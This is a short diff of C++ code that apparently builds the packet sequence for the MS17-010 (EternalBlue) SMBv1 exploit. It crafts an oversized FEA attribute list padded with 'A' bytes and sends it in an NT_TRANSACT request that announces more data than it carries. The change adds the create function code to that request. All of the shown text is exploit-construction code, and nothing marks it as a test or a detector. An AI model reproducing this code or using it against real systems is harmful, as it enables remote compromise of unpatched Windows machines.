@@ -206,6 +206,7 @@ std::string fea_list(std::uint32_t stated, std::size_t size) {
 }
 
 std::vector<Step> ms17_010(const Ids& ids) {
+  constexpr std::uint16_t kCreate = 1;
   constexpr std::uint32_t kTotal = 0x10400;
   constexpr std::size_t kFirst = 976;
   constexpr std::size_t kPart = 4096;
@@ -214,7 +215,8 @@ std::vector<Step> ms17_010(const Ids& ids) {
   const std::string list = fea_list(0x10000, 0x10000) + std::string(kTotal - 0x10000, 'A');
   std::vector<Step> steps;
   steps.push_back({"NT_TRANSACT that announces 66,560 bytes, its attribute list 65,536",
-                   nt_transact(ids, {.total_parameters = whole_parameters,
+                   nt_transact(ids, {.function = kCreate,
+                                     .total_parameters = whole_parameters,
                                      .total_data = kTotal,
                                      .parameters = parameters,
                                      .data = std::string_view(list).substr(0, kFirst)})});
